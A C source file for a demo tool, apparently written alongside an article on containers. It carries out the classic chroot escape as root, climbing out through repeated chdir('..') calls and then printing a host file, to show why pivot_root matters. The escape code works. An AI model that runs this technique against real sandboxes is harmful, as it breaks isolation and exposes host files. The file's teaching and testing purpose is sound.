/* SPDX-License-Identifier: MIT */
/*
 * chroot-escape - the classic way out of a chroot, to show why containers
 * use pivot_root.  Built static (the container's root has no libc); the
 * tests and the demo copy it into a copy of the busybox root.
 *
 *   chroot-escape FILE     try to escape, then print FILE as seen from
 *                          wherever we ended up; exit 0 if FILE was there
 *
 * Article: §2.4 ends the one-liner with `chroot`.  chroot(2) changes only
 * where path lookup starts for this process; ".." stops at that root only
 * when the walk passes through it.  So, as root inside:
 *
 *   1. mkdir("escape.d"), chroot("escape.d"): the root is now below us,
 *      and our working directory is outside it;
 *   2. chdir("..") many times: never passing our root, we climb to the top
 *      of the mount namespace, the host's "/" if it is still mounted;
 *   3. chroot("."): make that our root.
 *
 * After pivot_root(2) and a detached old root there is no host "/" left in
 * the namespace: the climb stops at the container's own root.  (busybox's
 * chroot applet cannot do this: it always chdirs into the new root first.)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int step(int ret, const char *what)
{
	if (ret < 0)
		fprintf(stderr, "chroot-escape: %s: %s\n", what, strerror(errno));
	return ret;
}

int main(int argc, char **argv)
{
	char buf[4096];
	size_t n;
	FILE *f;

	if (argc != 2) {
		fprintf(stderr, "usage: chroot-escape FILE\n");
		return 2;
	}
	/* 1. A root below our working directory. */
	if (mkdir("escape.d", 0700) < 0 && errno != EEXIST)
		return step(-1, "mkdir escape.d"), 1;
	if (step(chroot("escape.d"), "chroot escape.d") < 0)
		return 1;
	/* 2. Climb: ".." at the top of the namespace stays where it is. */
	for (int i = 0; i < 64; i++)
		if (step(chdir(".."), "chdir ..") < 0)
			return 1;
	/* 3. Wherever we are is the new root. */
	if (step(chroot("."), "chroot .") < 0)
		return 1;

	f = fopen(argv[1], "r");
	if (!f) {
		printf("chroot-escape: %s: %s: still inside\n", argv[1], strerror(errno));
		return 1;
	}
	printf("chroot-escape: escaped: %s says: ", argv[1]);
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		fwrite(buf, 1, n, stdout);
	fclose(f);
	return 0;
}
